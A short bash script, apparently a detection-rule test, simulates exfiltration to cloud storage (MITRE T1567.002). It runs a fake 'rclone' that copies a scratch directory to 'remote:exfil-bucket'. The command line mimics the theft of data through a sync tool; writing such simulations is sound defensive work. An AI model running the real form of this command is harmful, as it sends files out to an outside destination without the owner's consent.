#!/usr/bin/env bash
# rule: exfiltration-cloud-storage-sync-tool
# mitre: T1567.002
# stand-in: rclone is not installed on the test machines, and a real copy needs a cloud remote
# Runs a do-nothing program named rclone copying the scratch directory.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
"$(fake_tool rclone)" copy "$SIM_DIR" remote:exfil-bucket
